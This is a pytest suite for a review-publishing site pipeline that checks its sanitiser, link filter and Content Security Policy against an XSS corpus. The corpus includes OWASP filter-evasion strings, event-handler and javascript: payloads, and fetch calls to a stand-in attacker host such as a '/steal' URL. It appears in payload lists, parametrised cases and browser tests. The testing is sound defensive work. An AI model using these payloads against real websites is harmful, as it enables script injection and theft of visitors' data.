"""No script and no request to another host reaches the public site from a draft or record.

An XSS corpus (the payloads of issue 9 and the OWASP filter-evasion classics) goes into
a fictional draft, into the review record's public fields and into the action plan
(a replacement holding markup is refused by the list; the sanitiser is tested on one
too); the review goes through the real pipeline (ingest,
case-file proposals, every entry decided, approve, anonymise, publish) and the built
HTML is parsed (selectolax), not searched with patterns. Everything here is invented.
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlparse

import markdown
import pytest
import yaml
from selectolax.lexbor import LexborHTMLParser
from support.site import TODAY, decide_and_approve, make_workspace

from pipeline.measure.scale import CHROMIUM
from pipeline.measure.scale import CHROMIUM_ARGS as ARGS
from pipeline.site.builder import external_references, html_problems, site_output
from pipeline.site.markdown import front_matter
from pipeline.site.sanitise import clean_html, safe_link_target, sanitise_markdown
from pipeline.stages.publish import publish_review
from pipeline.stages.review import open_review

ROOT = Path(__file__).resolve().parent.parent
REF = "gwyn-2024-01"
EVIL = "http://203.0.113.9"  # TEST-NET-3: never a real host

# In the draft's body (Markdown and raw HTML, as a hostile or careless author writes).
BODY_PAYLOADS: list[str] = [
    "[click](javascript:alert('body1'))",
    "[mixed](JaVaScRiPt:alert('body2'))",
    "[spaced]( javascript:alert('body3'))",
    "[tab](jav&#x09;ascript:alert('body4'))",
    "[nl](jav&#x0A;ascript:alert('body5'))",
    "[ent](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('body6'))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox('body7'))",
    "[ref link][bad]\n\n[bad]: javascript:alert('body8')",
    "<javascript:alert('body9')>",
    "<a href=\"jav&#x0A;ascript:alert('body10')\">raw link</a>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<svg/onload=alert('body11')>",
    "<body onload=alert('body12')>",
    "<img src=x onerror=alert('body13')>",
    f'<iframe src="{EVIL}/frame"></iframe>',
    f'<object data="{EVIL}/x.swf"></object>',
    f'<embed src="{EVIL}/x.swf">',
    f"<style>@import '{EVIL}/x.css';</style>",
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "<script>alert('body14')</script>",
    f'<div style="background-image:url({EVIL}/bg.png)">styled</div>',
    f"![picture]({EVIL}/pixel.png)",
    "Attribute list {: onmouseover=alert('body15') }",
    f"Focus me {{: autofocus onfocus=fetch('{EVIL}/f') }}",
    f'Styled {{: style="background-image:url({EVIL}/a.png)" }}',
    "## Heading {: onclick=alert('body16') }",
    "`code <b onclick=alert(1)>{: x }</b>`",
    "[safe outbound link](https://gov.example.org/guidance)",
]
# In the record's public fields and the action plan (plain strings in YAML).
FIELD_PAYLOADS: dict[str, str] = {
    "reference": "GWYN <svg onload=alert('ref')>",
    "summary": "\"><img src=x onerror=alert('summary')> and </title><script>alert(2)</script>",
    "panel_chair": f"<iframe src={EVIL}/chair></iframe>Brychan Cadeirydd",
    "reviewer": "<script>alert('reviewer')</script>Anwen Adolygydd",
    "action": "[plan](javascript:alert('plan')) <img src=x onerror=alert('plan2')>",
}
REPLACEMENT = "[x](javascript:alert('replacement')) <svg onload=alert('replacement2')>"
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRS = ("href", "src", "srcset", "action", "formaction", "data", "poster", "xlink:href")


def _yaml_str(value: str) -> str:
    return json.dumps(value, ensure_ascii=False)  # a JSON string is a YAML scalar


def _hostile_record(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    text = text.replace(
        "reference: GWYN 1/2024", f"reference: {_yaml_str(FIELD_PAYLOADS['reference'])}"
    )
    text = re.sub(
        r"summary: >-\n(?:  .*\n)+", f"summary: {_yaml_str(FIELD_PAYLOADS['summary'])}\n", text
    )
    text = text.replace(
        "panel_chair: Brychan Cadeirydd", f"panel_chair: {_yaml_str(FIELD_PAYLOADS['panel_chair'])}"
    )
    text = text.replace(
        "reviewers: [Anwen Adolygydd]", f"reviewers: [{_yaml_str(FIELD_PAYLOADS['reviewer'])}]"
    )
    path.write_text(text, encoding="utf-8")


def _hostile_plan(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    first = "action: Ask about every adult in the household at each health visiting contact."
    assert first in text
    path.write_text(text.replace(first, f"action: {_yaml_str(FIELD_PAYLOADS['action'])}"), "utf-8")


def _squeezed(url: str) -> str:
    return "".join(c for c in url if not c.isspace() and ord(c) > 0x1F).lower()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory):
    """The fictional GWYN review with the corpus everywhere, through the real pipeline.

    A hostile replacement never gets this far: the redaction list refuses markup in a
    replacement (`pipeline.model.redaction_list.markup_in`); the Markdown layer's own
    handling of one is tested below.
    """
    ws = make_workspace(tmp_path_factory.mktemp("ws"), refs=(REF,))
    drafts = ws.root / "drafts" / REF
    _hostile_record(drafts / "review.yaml")
    _hostile_plan(drafts / "action_plan.yaml")
    draft = drafts / "draft.md"
    corpus = "\n\n## Hostile markup\n\n" + "\n\n".join(BODY_PAYLOADS) + "\n"
    draft.write_text(draft.read_text(encoding="utf-8") + corpus, encoding="utf-8")
    decide_and_approve(open_review(ws, REF))
    publish_review(open_review(ws, REF), ws=ws, today=TODAY)
    return ws


def _pages(ws) -> list[Path]:
    return sorted(site_output(ws).rglob("*.html"))


def _review_pages(ws) -> list[Path]:
    site = site_output(ws)
    return [site / "reviews" / REF / "index.html", site / "cy" / "reviews" / REF / "index.html"]


def _tree(path: Path) -> LexborHTMLParser:
    return LexborHTMLParser(path.read_text(encoding="utf-8"))


def _problems(tree: LexborHTMLParser) -> list[str]:
    """Every event handler, style attribute, script URL or active element in a page."""
    found: list[str] = []
    assert tree.root is not None
    for node in tree.root.traverse(include_text=False):
        tag = node.tag or ""
        for name, value in node.attributes.items():
            if name.lower().startswith("on"):
                found.append(f"<{tag} {name}>")
            if name.lower() == "style":
                found.append(f"<{tag} style>")
            if name.lower() in URL_ATTRS and value and _squeezed(value).startswith(BAD_SCHEMES):
                found.append(f"<{tag} {name}={value[:30]}>")
        active = tag != "svg" or node.css_first("script, foreignObject") is not None
        if tag in {"iframe", "object", "embed", "frame", "base", "style", "svg"} and active:
            found.append(f"<{tag}>")
        if tag == "meta" and (node.attributes.get("http-equiv") or "").lower() == "refresh":
            found.append("<meta refresh>")
        if tag == "img" and not (node.attributes.get("src") or "").startswith(("../", "assets/")):
            found.append("<img>")
        if tag == "script":
            src = node.attributes.get("src")
            # The Welsh 404 page is served under /cy/ (site_url), so its base is /cy/.
            if src is not None and not re.match(r"^(\.\./)*(\./|/)?(cy/)?assets/javascripts/", src):
                found.append(f"<script src={src}>")
    return found


# ---------------------------------------------------------------------------------------
# The built site, from the real pipeline


def test_built_pages_hold_no_script_handler_style_or_script_url(hostile):
    pages = _pages(hostile)
    assert len(pages) > 10
    problems = {str(p.relative_to(site_output(hostile))): _problems(_tree(p)) for p in pages}
    assert {k: v for k, v in problems.items() if v} == {}


def test_the_corpus_was_published_as_visible_text(hostile):
    """The payloads were neutralised, not silently dropped: the reader sees the words."""
    page = _tree(_review_pages(hostile)[0])
    main = page.css_first("main")
    assert main is not None
    text = main.text()
    assert FIELD_PAYLOADS["reference"] in page.css_first("h1").text()
    assert FIELD_PAYLOADS["summary"] in text
    assert "Anwen Adolygydd" in text and "<script>alert('reviewer')</script>" in text
    assert "{: onmouseover=alert(" in text  # attr_list did not apply (quotes are curly)
    assert "click" in text and "styled" in text and "picture" in text
    header = page.css_first(".md-header__topic:last-child")
    assert header is not None and FIELD_PAYLOADS["reference"] in header.text()


def test_record_fields_stay_text_in_the_head(hostile):
    # The record has no Welsh summary: the Welsh page's description is its Welsh title,
    # never the English summary unmarked.
    english, welsh = _review_pages(hostile)
    expected = {
        english: FIELD_PAYLOADS["summary"],
        welsh: f"Adolygiad Ymarfer Plant {FIELD_PAYLOADS['reference']}",
    }
    for path in (english, welsh):
        tree = _tree(path)
        description = tree.css_first('meta[name="description"]')
        assert description is not None
        assert description.attributes["content"] == expected[path]
        title = tree.css_first("title")
        assert title is not None and FIELD_PAYLOADS["reference"] in title.text()


def test_links_keep_only_http_and_mailto_and_outbound_links_are_marked(hostile):
    page = _tree(_review_pages(hostile)[0])
    article = page.css_first("article")
    assert article is not None
    hrefs = [a.attributes.get("href") or "" for a in article.css("a")]
    assert all(not _squeezed(h).startswith(BAD_SCHEMES) for h in hrefs)
    outbound = [a for a in article.css("a") if (a.attributes.get("href") or "").startswith("http")]
    assert [a.attributes["href"] for a in outbound] == ["https://gov.example.org/guidance"]
    for a in outbound:
        assert a.attributes["rel"] == "nofollow noopener noreferrer"
        assert "cpr-outbound" in (a.attributes.get("class") or "")


def test_search_index_and_downloads_hold_no_live_markup(hostile):
    site = site_output(hostile)
    # The catalogue's data is plain text, written into the page with textContent only
    # (the browser test below); the shards hold folded words only.
    for root in (site, site / "cy"):
        data = json.loads((root / "catalogue.json").read_text(encoding="utf-8"))
        assert [r["r"] for r in data["reviews"]] == [REF]
        for shard in (root / "search").glob("*.json"):
            words = json.loads(shard.read_text(encoding="utf-8"))
            assert all(re.fullmatch(r"[a-z0-9]+", w) for w in words), shard.name
    for download in (site / "reviews" / REF).glob("*.docx"):
        import zipfile

        with zipfile.ZipFile(download) as package:
            rels = package.read("word/_rels/document.xml.rels").decode("utf-8")
        assert "javascript:" not in rels.lower() and "data:" not in rels.lower()


def test_the_site_check_finds_no_outside_host_and_404_links_stay_here(hostile):
    site = site_output(hostile)
    assert external_references(site) == []
    for page in (site / "404.html", site / "cy" / "404.html"):
        links = [a.attributes.get("href") or "" for a in _tree(page).css("a")]
        assert links and not [h for h in links if h.startswith("//")], links
    for page in (site / "404.html", site / "cy" / "404.html"):
        switcher = [a.attributes["href"] for a in _tree(page).css("a.md-select__link")]
        assert switcher == ["/", "/cy/"]


def _inline_scripts(ws) -> set[str]:
    """The SHA-256 (CSP form) of every inline script a browser would run, site-wide."""
    found = set()
    for path in _pages(ws):
        for script in _tree(path).css("script"):
            kind = (script.attributes.get("type") or "").lower()
            if script.attributes.get("src") is None and kind in {"", "text/javascript", "module"}:
                digest = hashlib.sha256(script.text(deep=True).encode("utf-8")).digest()
                found.add(f"'sha256-{base64.b64encode(digest).decode()}'")
    return found


def _csp(tree: LexborHTMLParser) -> str:
    head = tree.head
    assert head is not None
    first = [n for n in head.iter(include_text=False)][:2]
    metas = [
        n for n in first if (n.attributes.get("http-equiv") or "") == "Content-Security-Policy"
    ]
    assert metas, "the CSP must come before any script in <head>"
    return metas[0].attributes["content"] or ""


def test_every_page_carries_the_csp_and_it_allows_exactly_the_inline_scripts(hostile):
    policies = {_csp(_tree(p)) for p in _pages(hostile)}
    assert len(policies) == 1  # every page, both languages, the 404 pages
    policy = policies.pop()
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
    assert directives["default-src"] == "'self'"
    assert directives["connect-src"] == "'self'"
    assert directives["object-src"] == "'none'"
    assert directives["base-uri"] == "'self'"
    assert directives["form-action"] == "'self'"
    assert directives["img-src"] == "'self' data:"
    assert "unsafe" not in policy and "http" not in policy and "*" not in policy
    hashes = set(re.findall(r"'sha256-[^']+'", directives["script-src"]))
    assert hashes == _inline_scripts(hostile), "update the hashes in overrides/main.html"


def test_the_build_hook_cleans_a_review_page_that_skipped_the_markdown_layer(tmp_path):
    """A review page written by hand (not by publish) is still cleaned by nh3 at build."""
    from pipeline.site.builder import build_site

    ws = make_workspace(tmp_path / "ws", refs=())
    for lang in ("en", "cy"):
        page = ws.site / lang / "reviews" / "hand-made" / "index.md"
        page.parent.mkdir(parents=True)
        page.write_text(
            "# Hand made\n\n"
            "<img src=x onerror=alert(1)> <a href='jav&#x09;ascript:alert(2)'>raw</a>\n\n"
            "[md](javascript:alert(3)) [out](https://gov.example.org/)\n\n"
            f'<div style="background:url({EVIL}/x.png)" onclick="alert(4)">div</div>\n\n'
            "<script>alert(5)</script>\n",
            encoding="utf-8",
        )
    build_site(ws)
    for lang in ("", "cy/"):
        built = site_output(ws) / f"{lang}reviews/hand-made/index.html"
        tree = _tree(built)
        assert _problems(tree) == []
        article = tree.css_first("article")
        assert article is not None
        assert [a.attributes.get("class") for a in article.css("a[href^=http]")] == ["cpr-outbound"]
        assert "div" in article.text() and "md" in article.text()


# ---------------------------------------------------------------------------------------
# The pieces, case by case


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://gov.example.org/x", True),
        ("http://gov.example.org/", True),
        ("mailto:someone@example.org", True),
        ("HTTPS://gov.example.org/", True),
        ("javascript:alert(1)", False),
        ("JaVaScRiPt:alert(1)", False),
        (" javascript:alert(1)", False),
        ("jav\tascript:alert(1)", False),
        ("jav&#x09;ascript:alert(1)", False),
        ("jav&#x0A;ascript:alert(1)", False),
        ("&#106;avascript:alert(1)", False),
        ("java\u200bscript:alert(1)", False),
        ("data:text/html;base64,PHNjcmlwdD4=", False),
        ("vbscript:msgbox(1)", False),
        ("//evil.example/", False),
        ("https:///nohost", False),
        ("file:///etc/passwd", False),
        ("#section", False),
        ("relative/page.md", False),
    ],
)
def test_link_targets_from_a_draft(url, allowed):
    assert safe_link_target(url) is allowed


def _render(md: str) -> str:
    return markdown.markdown(
        md,
        extensions=["tables", "footnotes", "toc"],
        extension_configs={"tables": {"use_align_attribute": True}},
    )


@pytest.mark.parametrize("payload", [*BODY_PAYLOADS[:-1], REPLACEMENT])
def test_markdown_layer_alone_leaves_nothing_live(payload):
    """Even without the HTML hook, the site's Markdown renders no script, handler or style."""
    from pipeline.tools.convert import site_body

    out = sanitise_markdown(site_body(f"Before.\n\n{payload}\n\nAfter.\n"))
    assert sanitise_markdown(out) == out  # idempotent: publish may run it more than once
    tree = LexborHTMLParser(f"<body>{_render(out)}</body>")
    assert _problems(tree) == []
    body = tree.body
    assert body is not None
    assert all(not (a.attributes.get("href") or "").startswith("http") for a in body.css("a"))


@pytest.mark.parametrize(
    "fragment",
    [
        '<a href="jav&#x09;ascript:alert(1)">t</a>',
        '<a href=" JaVaScRiPt:alert(1)">t</a>',
        '<a href="data:text/html,x">t</a>',
        "<p onclick=alert(1) style='color:red'>p</p>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe src=//evil.example></iframe>",
        "<object data=x></object>",
        "<style>@import 'http://evil.example/x.css';</style>",
        "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
        "<script>alert(1)</script>",
        '<h3 id="__config">clobber</h3>',
        '<td align="left" style="x">cell</td>',
    ],
)
def test_html_layer_alone_leaves_nothing_live(fragment):
    cleaned = clean_html(fragment)
    tree = LexborHTMLParser(f"<body>{cleaned}</body>")
    assert _problems(tree) == []
    assert "__config" not in cleaned and "alert" not in re.sub(r">[^<]*<", "><", cleaned)


def test_html_layer_marks_outbound_links_and_keeps_site_markup():
    cleaned = clean_html(
        '<dl class="cpr-meta"><dt>a</dt><dd>b</dd></dl>'
        '<p><a href="https://gov.example.org/">g</a> <a href="x.docx">d</a>'
        '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup></p>'
    )
    assert '<dl class="cpr-meta">' in cleaned
    assert (
        '<a href="https://gov.example.org/" rel="nofollow noopener noreferrer" '
        'class="cpr-outbound">g</a>'
    ) in cleaned
    assert '<a href="x.docx">d</a>' in cleaned
    assert '<a class="footnote-ref" href="#fn:1">1</a>' in cleaned


@pytest.mark.parametrize(
    "value",
    [
        "GWYN <svg onload=alert(1)>",
        '"><img src=x onerror=alert(1)>',
        "a\nb: c\n---\nd",
        "line\u2028separator\u2029and\x85next",
        'it\'s "quoted" {braces} [brackets] #hash &amp;',
    ],
)
def test_front_matter_values_round_trip_as_yaml(value):
    text = front_matter({"title": value, "tags": [value]})
    loaded = yaml.safe_load(text[4 : text.rindex("\n---")])
    assert loaded == {"title": value, "tags": [value]}


@pytest.mark.parametrize(
    ("html_text", "bad"),
    [
        ('<a href="../reviews/x/">in</a>', False),
        ('<a href="mailto:a@example.org">m</a>', False),
        (
            '<a href="https://e.org/" rel="nofollow noopener noreferrer" '
            'class="cpr-outbound">o</a>',
            False,
        ),
        ('<a href="https://e.org/">unmarked</a>', True),
        ('<a href="//cy/">protocol-relative</a>', True),
        ('<a href="javascript:alert(1)">js</a>', True),
        ('<a href="jav&#x09;ascript:alert(1)">js</a>', True),
        ('<img src="//e.org/x.png">', True),
        ('<img srcset="a.png 1x, https://e.org/b.png 2x">', True),
        ('<div style="background:url(http://e.org/x)">s</div>', True),
        ("<style>@import 'https://e.org/x.css';</style>", True),
        ('<meta http-equiv="refresh" content="0;url=https://e.org/">', True),
        ('<form action="https://e.org/"></form>', True),
        ('<link rel="stylesheet" href="assets/x.css">', False),
        ('<script src="https://e.org/x.js"></script>', True),
    ],
)
def test_outside_host_check_covers_links(html_text, bad):
    assert bool(html_problems(f"<html><body>{html_text}</body></html>")) is bad


# ---------------------------------------------------------------------------------------
# In a real browser

needs_browser = pytest.mark.skipif(
    not CHROMIUM.exists(),
    reason="Debian's Chromium is not installed at /usr/bin/chromium (apt-get install -y chromium)",
)
HOOKS = """
window.__cpr = {dialogs: [], fetches: [], violations: []};
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = (...args) => { window.__cpr.dialogs.push(name + ":" + args.join(",")); };
}
const realFetch = window.fetch.bind(window);
window.fetch = (...args) => {
  window.__cpr.fetches.push(String(args[0]));
  return realFetch(...args);
};
document.addEventListener("securitypolicyviolation", (e) => {
  window.__cpr.violations.push(e.violatedDirective + " " + e.blockedURI);
});
"""


@pytest.fixture(scope="module")
def base_url(hostile) -> Iterator[str]:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "http.server",
            str(port),
            "--bind",
            "127.0.0.1",
            "-d",
            str(site_output(hostile)),
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    url = f"http://127.0.0.1:{port}/"
    for _ in range(100):
        try:
            urllib.request.urlopen(url, timeout=1).close()
            break
        except OSError:
            time.sleep(0.05)
    yield url
    server.terminate()
    server.wait(timeout=10)


@pytest.fixture(scope="module")
def browser():
    if not CHROMIUM.exists():
        pytest.skip("Debian's Chromium is not installed at /usr/bin/chromium")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        yield b
        b.close()


@needs_browser
@pytest.mark.browser
@pytest.mark.parametrize("path", [f"reviews/{REF}/", f"cy/reviews/{REF}/", "", "catalogue/"])
def test_browser_runs_no_injected_script_and_asks_no_other_host(browser, base_url, path):
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.add_init_script(HOOKS)
    requested: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda r: requested.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(base_url + path)
    page.wait_for_load_state("networkidle")
    page.mouse.move(400, 400)
    for link in page.locator("article a:visible").all()[:40]:
        link.hover()
    page.keyboard.press("Tab")
    state = page.evaluate("window.__cpr")
    assert dialogs == [] and state["dialogs"] == []
    assert state["fetches"] == [] or all(
        urlparse(u).hostname in {None, "127.0.0.1"} for u in state["fetches"]
    )
    assert state["violations"] == [], "the theme itself must run under the CSP"
    # An injected fetch to another origin is blocked by the policy, before any request.
    blocked = page.evaluate(
        f"""async () => {{
          try {{ await fetch("{EVIL}/steal?x=1"); return "fetched"; }}
          catch (e) {{ return "blocked"; }}
        }}"""
    )
    assert blocked == "blocked"
    page.wait_for_timeout(200)
    violations = page.evaluate("window.__cpr.violations")
    assert any(v.startswith("connect-src") and "203.0.113.9" in v for v in violations)
    context.close()
    foreign = [
        u
        for u in requested
        if urlparse(u).hostname != "127.0.0.1" and not u.startswith(("data:", "blob:"))
    ]
    assert foreign == [], foreign
    assert requested


@needs_browser
@pytest.mark.browser
def test_browser_search_shows_hostile_titles_as_text(browser, base_url):
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.add_init_script(HOOKS)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(base_url + "catalogue/?q=GWYN")
    page.locator("#cpr-results .cpr-card").first.wait_for(timeout=10_000)
    page.wait_for_timeout(300)
    assert dialogs == [] and page.evaluate("window.__cpr.dialogs") == []
    assert page.evaluate("window.__cpr.violations") == []
    assert page.locator("#cpr-results svg, #cpr-results img, #cpr-results script").count() == 0
    context.close()
